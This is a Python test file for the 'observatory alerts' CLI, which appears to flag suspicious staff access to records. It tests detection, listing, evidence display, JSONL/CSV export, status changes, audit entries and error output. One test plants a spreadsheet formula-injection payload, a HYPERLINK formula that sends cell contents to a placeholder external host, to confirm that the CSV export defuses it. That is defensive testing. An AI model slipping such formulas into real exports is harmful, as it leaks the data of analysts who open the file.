"""`observatory alerts detect|list|show|export|status` through the real CLI entry point."""

from __future__ import annotations

import json
from datetime import timedelta

from click.testing import CliRunner

from observatory.cli import cli
from observatory.security import audit
from observatory.warehouse import for_workspace
from tests.anomaly import world as w


def _invoke(home, *args):
    return CliRunner().invoke(cli, ["--home", str(home), *args], catch_exceptions=False)


def test_detect_list_show_export_and_close(built):
    for i in range(3):
        built.event("CW1", w.TEST_DAY - timedelta(days=1), 10 + i / 10, w.rid(1 + i))
    built.flush()
    home = built.ws.home
    out = _invoke(home, "alerts", "detect")
    assert out.exit_code == 0 and "1 new" in out.output
    # the run's diagnostics follow its summary (issue 12): share explained, the floor and why, scenarios at the floor
    assert "accesses explained:" in out.output and "significance floor" in out.output
    assert "household: 1 staff-days at the floor" in out.output
    listed = _invoke(home, "alerts", "list", "--user", "cio1")
    assert "CW1" in listed.output and "household" in listed.output
    alert_id = int(listed.output.splitlines()[1].split()[0])
    shown = _invoke(home, "alerts", "show", str(alert_id), "--user", "sato", "--evidence")
    assert "同一世帯" in shown.output and "own household" in shown.output and "R001" in shown.output
    lines = _invoke(home, "alerts", "export", "--format", "jsonl", "--user", "sato").output.splitlines()
    rec = json.loads(lines[0])
    assert set(rec) == {"alert_id", "staff_id", "org_code", "first_seen", "last_seen", "score", "severity", "status",
                        "reasons", "event_ids"}
    assert rec["reasons"][0]["code"] == "household" and len(rec["event_ids"]) == 3
    csv_out = _invoke(home, "alerts", "export", "--format", "csv", "--user", "sato").output
    assert csv_out.splitlines()[0].startswith("alert_id,staff_id,org_code")
    closed = _invoke(home, "alerts", "status", str(alert_id), "benign", "--note", "counter visit", "--user", "sato")
    assert "benign" in closed.output
    with for_workspace(built.ws).connect() as con:
        assert audit.entries(con, actor="sato", action="alerts.evidence")
        assert audit.entries(con, actor="sato", action="alerts.export")


def test_refusals_are_one_line_errors(built, capsys):
    import pytest

    from observatory.cli import main

    home = str(built.ws.home)
    cases = [(["alerts", "show", "1", "--user", "nobody"], 4, "no such user"),
             (["alerts", "show", "1", "--user", "cio1", "--evidence"], 3, "no such alert"),
             (["alerts", "detect", "--since", "yesterday"], 2, "--since")]
    for args, code, text in cases:
        with pytest.raises(SystemExit) as exc:
            main(["--home", home, *args])
        err = capsys.readouterr().err
        assert exc.value.code == code and text in err and "Traceback" not in err
        assert len(err.strip().splitlines()) == 1


def test_csv_export_never_hands_excel_a_formula(built):
    """Event and staff ids come from the offices' access logs as written: a cell starting with = + - @ (or a tab
    or CR) in the CSV export would run as a formula when an analyst opens the file in Excel."""
    for i in range(3):
        built.event("CW1", w.TEST_DAY - timedelta(days=1), 10 + i / 10, w.rid(1 + i))
    built.events[0]["event_id"] = '=HYPERLINK("http://x.example/?"&A1,"open")'
    built.flush()
    home = built.ws.home
    assert "1 new" in _invoke(home, "alerts", "detect").output
    import csv
    import io

    rows = list(csv.reader(io.StringIO(_invoke(home, "alerts", "export", "--format", "csv", "--user", "sato").output)))
    cells = [c for r in rows[1:] for c in r]
    assert any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
